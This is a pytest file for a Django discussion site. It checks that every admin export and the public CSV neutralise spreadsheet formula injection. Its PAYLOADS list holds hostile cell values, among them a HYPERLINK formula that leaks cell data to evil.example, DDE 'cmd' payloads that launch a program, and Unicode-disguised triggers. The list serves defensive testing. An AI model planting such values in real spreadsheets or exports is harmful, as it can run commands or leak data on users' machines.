"""No export runs as a formula in a spreadsheet: whatever readers or editors
wrote at the start of a cell, every text cell of every format the admin
offers, and of the public CSV, opens as the text it is."""

import csv
import io
import unicodedata

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.sites.models import Site
from django.urls import reverse

from articles.models import ArgumentPoint
from discussion.admin.exports import (
    AnswerCountResource,
    CommentResource,
    CommentWithPersonalDataResource,
)
from discussion.models import ArticleComment, QuickAnswer
from tests.factories import make_article, make_comment, make_perspective

pytestmark = pytest.mark.django_db

# what spreadsheets (Excel, LibreOffice, Google Sheets) would run or fold into
# a formula: each trigger, after spaces, quotes and invisible characters, in
# full-width and other compatibility forms
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\t",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "    +1+1",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    '"=1+1"',
    "“=1+1”",
    " \"'=1+1",
    "＝1+1",  # full-width forms
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " ＝1+1",
    "﹦1+1",  # small equals sign
    "⁼1+1",  # superscript equals sign
    "\u2212" + "1+1",  # minus sign
    "=",
    "-",
]
# text that only looks near a formula stays exactly as written
HARMLESS = ["Hello = world", "1+1=2", "e-mail me", "Good point!", "'quoted'"]
TRIGGERS = "=+-@"
QUOTES = "\"'`‘’‚‛“”„‟«»"


def runs_as_formula(cell):
    """How a spreadsheet reads the start of a cell, written apart from the
    site's code: a leading apostrophe makes text; tabs and line breaks start
    formulas; spaces, quotes and invisible characters are passed over."""
    if cell.startswith("'"):
        return False
    if cell.startswith(("\t", "\r", "\n")):
        return True
    for character in cell:
        folded = unicodedata.normalize("NFKC", character)
        if folded.isspace() or folded in QUOTES or unicodedata.category(folded) == "Cf":
            continue
        return folded[0] in TRIGGERS or character == "\u2212"
    return False


def test_the_payloads_are_each_a_formula_and_the_harmless_none():
    assert all(runs_as_formula(payload) for payload in PAYLOADS)
    assert not any(runs_as_formula(text) for text in HARMLESS)


def everything_written_as(text):
    """Each field an export shows, holding text: the article's title, the
    perspective's name, the point, the comment and the commenter's name and
    e-mail."""
    perspective = make_perspective(name=text)
    article = make_article(title=text, points=[(perspective, text)])
    point = ArgumentPoint.objects.get(article=article)
    make_comment(
        article,
        comment=text,
        perspective=perspective,
        point=point,
        user_name=text,
        user_email=text,
    )
    QuickAnswer.objects.create(
        point=point,
        article=article,
        perspective=perspective,
        answer="agree",
        reader=text[:64],
        network="n",
    )
    return article


def cells_of(response, file_format):
    """Every cell of an exported file, header row apart, as a spreadsheet
    would hold it: (value, is a formula)."""
    if file_format == "csv":
        body = b"".join(response) if response.streaming else response.content
        text = body.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
        return [(cell, False) for row in rows for cell in row]
    if file_format == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        rows = list(sheet.iter_rows())[1:]
        return [(cell.value, cell.data_type == "f") for row in rows for cell in row]
    raise AssertionError(f"add a reader for {file_format} to test it")


def export(client, model, resource, format_index):
    data = {"format": str(format_index), "resource": "0"}
    if resource is CommentWithPersonalDataResource:
        data["resource"] = "1"
    prefix = resource.__name__.lower()
    data |= {f"{prefix}_{field}": "on" for field in resource().get_export_order()}
    url = reverse(f"admin:discussion_{model._meta.model_name}_export")
    response = client.post(url, data)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"], response.content[:300]
    return response


EXPORTS = [
    (ArticleComment, CommentResource),
    (ArticleComment, CommentWithPersonalDataResource),
    (QuickAnswer, AnswerCountResource),
]


def offered_formats(model):
    model_admin = admin.site._registry[model]
    return list(enumerate(f().get_extension() for f in model_admin.export_formats))


@pytest.mark.parametrize(("model", "resource"), EXPORTS)
def test_no_admin_export_runs_a_formula_in_any_format(admin_client, model, resource):
    for text in PAYLOADS + HARMLESS:
        everything_written_as(text)

    for format_index, file_format in offered_formats(model):
        response = export(admin_client, model, resource, format_index)
        texts = [value for value, _ in cells_of(response, file_format)]
        for value, is_formula in cells_of(response, file_format):
            assert not is_formula, (file_format, value)
            if isinstance(value, str):
                assert not runs_as_formula(value), (file_format, value)
        # every payload is there, kept whole behind the apostrophe
        for text in PAYLOADS:
            if file_format == "xlsx":  # XML keeps no carriage return
                text = text.replace("\r", "\n")
            assert f"'{text}" in texts, (file_format, text)
        for text in HARMLESS:
            assert text in texts, (file_format, text)


@pytest.mark.parametrize("text", PAYLOADS)
def test_the_public_csv_runs_no_formula_either(client, text):
    article = everything_written_as(text)
    make_comment(article, user_name=text, comment="A plain comment.")
    Site.objects.clear_cache()

    response = client.get(reverse("discussion:summary-csv", args=[article.slug]))

    cells = [cell for cell, _ in cells_of(response, "csv")]
    assert cells and not any(runs_as_formula(cell) for cell in cells)
    assert f"'{text}" in cells
